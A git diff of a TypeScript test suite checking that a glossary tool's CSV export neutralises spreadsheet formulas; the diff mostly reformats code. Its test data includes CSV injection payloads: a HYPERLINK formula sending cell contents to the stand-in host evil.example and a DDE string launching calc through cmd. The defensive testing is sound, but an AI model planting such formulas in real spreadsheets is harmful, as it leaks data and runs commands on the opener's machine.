@@ -4,7 +4,7 @@ import { exportGlossaryCsv, importGlossaryCsv, type GlossaryTerm } from '../form
 import { neutraliseFormula, restoreFormula } from './csv-safe';
 import { csvCell } from '../review/export';
 
-const HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', '+1+cmd|\' /C calc\'!A0', '-2+3', '@SUM(A1:A9)', '\t=1+1', '\r=1+1'];
+const HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1+cmd|' /C calc'!A0", '-2+3', '@SUM(A1:A9)', '\t=1+1', '\r=1+1'];
 
 describe('CSV formula neutralising', () => {
   it('prefixes a quote to cells starting with = + - @, tab or CR, and leaves others alone', () => {
@@ -16,7 +16,13 @@ describe('CSV formula neutralising', () => {
   });
 
   it('exports the glossary with no live formula, and imports it back unchanged', () => {
-    const terms: GlossaryTerm[] = HOSTILE.map((source, i) => ({ source, target: `대상 ${i}`, kind: 'TERM', note: '', caseSensitive: false }));
+    const terms: GlossaryTerm[] = HOSTILE.map((source, i) => ({
+      source,
+      target: `대상 ${i}`,
+      kind: 'TERM',
+      note: '',
+      caseSensitive: false,
+    }));
     terms.push({ source: 'ok', target: '=HYPERLINK("http://evil.example","x")', kind: 'TERM', note: '@note', caseSensitive: false });
     for (const format of ['deepl', 'full'] as const) {
       const csv = exportGlossaryCsv(terms, { format });
